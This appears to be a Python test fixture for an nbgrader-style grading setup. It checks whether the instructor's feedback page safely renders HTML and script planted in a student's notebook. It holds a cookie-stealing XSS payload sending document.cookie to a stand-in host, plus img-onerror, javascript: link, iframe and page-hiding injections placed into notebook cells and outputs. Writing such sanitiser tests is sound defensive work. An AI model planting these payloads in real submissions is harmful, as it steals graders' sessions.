"""HTML and script in the free-text answer, in a wrong answer's source, in its output and in added Markdown.

nbgrader's feedback page shows Markdown as it is, and the instructor opens it.
"""

SCORES = {"draw": 0}
PAYLOAD = "<script>fetch('//198.51.100.1/?'+document.cookie)</script>"

# %% draw
print("<script>fetch('//198.51.100.1/?'+document.cookie)</script>")


def draw(probs):
    "<script>fetch('//198.51.100.1/?'+document.cookie)</script>"
    return torch.zeros(len(probs), dtype=torch.int64)


# %% tamper
from nbformat.v4 import new_markdown_cell, new_output

script = "<script>fetch('//198.51.100.1/?'+document.cookie)</script>"
sly = f'{script}\n\n<img src=x onerror="{script}">\n\n[x](javascript:alert(1))\n\n'
sly += f'<iframe srcdoc="{script}"></iframe>\n\n<style>body{{display:none}}</style>\n\n--> ]]> </textarea>\n\n'
cell("analysis").source = sly + "$\\href{javascript:alert(1)}{x}$"
notebook.cells.append(new_markdown_cell(sly))
cell("draw").outputs = [new_output("display_data", {"text/html": sly, "application/javascript": "alert(1)"})]
